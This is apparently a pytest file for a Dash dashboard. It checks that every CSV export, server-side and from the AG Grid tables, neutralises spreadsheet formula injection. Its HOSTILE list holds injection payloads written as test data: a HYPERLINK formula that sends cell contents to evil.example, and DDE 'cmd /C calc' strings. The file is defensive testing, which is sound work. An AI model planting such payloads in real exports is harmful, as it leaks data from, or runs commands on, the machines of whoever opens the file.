"""CSV formula injection is neutralised in every export, server-side and in the grids.

Server-side exports (capacity forecasts, adoption summary and trend, the forecast CLI) go
through services.csv_safe; the AG Grid exports (anomalies, incidents, audit, data health
batches and quarantine) run assets/grid_functions.js on every cell.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import dash
import pandas as pd
import pytest
from dash import Dash
from hostile_support import acting_as, components, run_callback
from sqlalchemy import select

from services.csv_safe import FORMULA_PREFIXES, safe_cell, safe_csv_text, safe_frame
from services.db import Database
from services.db.models import UseCase

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
]
NUMBERS = ["-5", "+1.5e3", "-0.25", "42", ".5"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_safe(text: str) -> None:
    """No cell of the CSV would run as a formula: any cell with a trigger is a number."""
    for cell in _cells(text):
        if cell.startswith(FORMULA_PREFIXES):
            assert safe_cell(cell) == cell, f"unsafe cell {cell!r}"


def _quoted(value: str) -> str:
    """What the export makes of a hostile text: a leading quote, CR turned into LF."""
    return "'" + value.replace("\r", "\n")


def test_safe_cell_quotes_formulas_and_keeps_numbers_and_plain_text() -> None:
    for value in HOSTILE:
        assert safe_cell(value) == _quoted(value)
    # A carriage return inside a cell would end the row for readers: it becomes a line feed.
    assert safe_cell("x\r=1+1") == "x\n=1+1"
    for value in [*NUMBERS, "SITE-0001", "", "a=b", " =1"]:
        assert safe_cell(value) == value
    for value in (None, 3, -2.5, True):
        assert safe_cell(value) == value


def test_safe_frame_covers_cells_and_column_names() -> None:
    frame = pd.DataFrame({"=name": HOSTILE, "n": range(len(HOSTILE))})
    frame["text"] = pd.Series(HOSTILE, dtype="string")
    safe = safe_frame(frame)
    assert list(safe.columns) == ["'=name", "n", "text"]
    assert all(v.startswith("'") for v in safe["'=name"])
    assert all(v.startswith("'") for v in safe["text"])
    assert safe["n"].tolist() == list(range(len(HOSTILE)))
    _assert_safe(safe.to_csv(index=False))


def test_safe_csv_text_rewrites_every_cell_and_keeps_the_shape() -> None:
    raw = io.StringIO()
    csv.writer(raw).writerows([["name", "value"]] + [[h, -1] for h in HOSTILE])
    safe = safe_csv_text(raw.getvalue())
    rows = list(csv.reader(io.StringIO(safe, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert [r[0] for r in rows[1:]] == [_quoted(h) for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-1"] * len(HOSTILE)
    _assert_safe(safe)


def test_capacity_forecast_export_quotes_hostile_element_names(app: Dash) -> None:
    from components.forecast import CSV_COLUMNS, portfolio_csv

    rows = []
    for index, name in enumerate(HOSTILE):
        row = dict.fromkeys(CSV_COLUMNS)
        row.update(element_name=name, dn=name, kpi=name, last_value=-3.5, threshold=80.0)
        row["region"] = name if "region" in CSV_COLUMNS else None
        rows.append({**row, "id": index})
    text = portfolio_csv(pd.DataFrame(rows))
    _assert_safe(text)
    for name in HOSTILE:
        assert _quoted(name) in _cells(text)
    assert "-3.5" in _cells(text)  # numbers stay numbers


def test_adoption_exports_quote_hostile_use_case_names(app: Dash, db: Database) -> None:
    from pages import adoption as page  # pages register themselves once the app exists

    with db.session(write=True) as session:
        cases = session.scalars(select(UseCase).order_by(UseCase.id)).all()
        assert cases, "the seeded database has use cases"
        for case, name in zip(cases, HOSTILE, strict=False):
            case.name = name
    named = HOSTILE[: len(cases)]
    with acting_as(app, db, "viewer"):
        for trigger in (page.CSV_SUMMARY, page.CSV_TREND):
            sent = run_callback(page.download_csv, 1, 1, 12, triggered=f"{trigger}.n_clicks")
            assert sent["type"] == "text/csv"
            _assert_safe(sent["content"])
            if trigger == page.CSV_SUMMARY:
                for name in named:
                    assert _quoted(name) in _cells(sent["content"])


def test_every_grid_export_runs_the_safe_cell_function(app: Dash, db: Database) -> None:
    exported = {key.split(".")[0] for key in app.callback_map if key.endswith(".exportDataAsCsv")}
    assert exported, "the pages export grids"
    found = {}
    with acting_as(app, db, "admin"):
        for page in dash.page_registry.values():
            layout = page["layout"]() if callable(page["layout"]) else page["layout"]
            for component in components(layout):
                if type(component).__name__ == "AgGrid" and component.id in exported:
                    found[component.id] = getattr(component, "csvExportParams", None) or {}
    assert set(found) == exported
    for grid, params in found.items():
        assert params.get("processCellCallback") == {"function": "beaconSafeCsvCell(params)"}, grid


@pytest.mark.skipif(shutil.which("node") is None, reason="needs Node.js to run the grid's JS")
def test_grid_safe_cell_function_quotes_what_the_server_quotes() -> None:
    script = (REPO / "assets" / "grid_functions.js").read_text()
    # The grid quotes every exported value, so a CR inside a cell cannot end its row there.
    values = [*HOSTILE, "SITE-0001", "", None, 7, -5, "-5", "+1.5e3", "a=b", "x\r=1+1"]
    program = (
        "var window = {};\n"
        + script
        + f"\nvar values = {json.dumps(values)};\n"
        + "console.log(JSON.stringify(values.map(function (v) {"
        + " return window.beaconSafeCsvCell({value: v}); })));"
    )
    out = subprocess.run(
        ["node", "-e", program], capture_output=True, text=True, check=True, timeout=30
    )
    exported = json.loads(out.stdout)
    # The same rule as the server's exports: plain numbers stay, CR becomes LF, formulas quoted.
    for value, cell in zip(values, exported, strict=True):
        assert cell == ("" if value is None else safe_cell(value)), (value, cell)
